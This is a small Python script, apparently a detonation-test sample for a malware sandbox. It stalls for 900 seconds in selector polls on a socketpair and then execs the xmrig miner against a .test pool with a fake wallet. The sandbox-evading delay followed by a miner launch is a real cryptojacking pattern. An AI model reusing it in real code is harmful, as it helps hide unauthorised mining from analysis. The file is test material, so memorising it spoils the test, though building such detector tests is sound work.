#!/usr/bin/python3
"""Waits 900 s as selectors.DefaultSelector().select(timeout=0.2) 4,500 times on the quiet end
of a socket.socketpair() it holds both ends of, then mines (detonate hold-out test sample;
harmless, fake wallet, .test pool)."""

import os
import selectors
import socket

ROUNDS = 4500 // int(os.environ.get("PYTHREAD_SCALE", "1"))
MINER = os.environ.get("PYTHREAD_MINER", "/usr/local/bin/xmrig")
POOL = "stratum+tcp://pool.thread.test:3333"
WALLET = "47thrEadW4itsFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX"  # noqa: E501

near, far = socket.socketpair()
sel = selectors.DefaultSelector()
sel.register(near, selectors.EVENT_READ)
print(f"waiting 900 s in {ROUNDS} selector.select(0.2) rounds on a socketpair", flush=True)
for _ in range(ROUNDS):
    if sel.select(timeout=0.2):
        break
sel.close()
far.close()
print("done waiting; starting the miner", flush=True)
os.execv(MINER, ["xmrig", "-o", POOL, "-u", WALLET, "--shares", "1"])
